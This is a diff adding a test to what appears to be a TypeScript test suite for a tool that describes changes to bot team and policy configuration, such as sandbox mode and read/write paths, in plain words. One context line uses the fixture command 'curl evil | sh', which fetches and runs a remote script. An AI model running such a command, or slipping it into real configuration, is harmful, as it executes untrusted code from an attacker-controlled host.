@@ -32,6 +32,24 @@ test('the commands of a template’s steps and those that check them are named',
   expect(all).toContain('Step b is checked by: curl evil | sh');
 });
 
+test('the sandbox of bots, and what they see in it, is named, and that it would go is said', () => {
+  const text = (mode: string, sees: string) =>
+    `sandbox: ${mode}\nbots:\n  - { bot: web, harness: shell, sees: { read: [~/notes], write: [${sees}] } }\n`;
+  const path = '.gantry/teams/dev/team.yaml';
+  const all = words('team', path, text('files', '/data'));
+  expect(all).toContain('Every bot in a terminal runs in the sandbox "files".');
+  expect(all).toContain('web reads ~/notes also in a sandbox.');
+  expect(words('team', path, text('none', '/all'), text('files', '/data'))).toEqual([
+    'Every bot in a terminal runs in no sandbox.',
+    'web changes /all also in a sandbox.',
+    'No longer: Every bot in a terminal runs in the sandbox "files".',
+    'No longer: web changes /data also in a sandbox.',
+  ]);
+  expect(words('policy', '.gantry/policy.yaml', 'rules: []\n', 'sandbox: files\n')).toEqual([
+    'No longer: Every bot in a terminal runs in the sandbox "files".',
+  ]);
+});
+
 test('of a change only what is new and what is gone is said', () => {
   const changed = words('team', '.gantry/teams/dev/team.yaml', team('npm test'), team('npm ci'));
   expect(changed).toHaveLength(2);
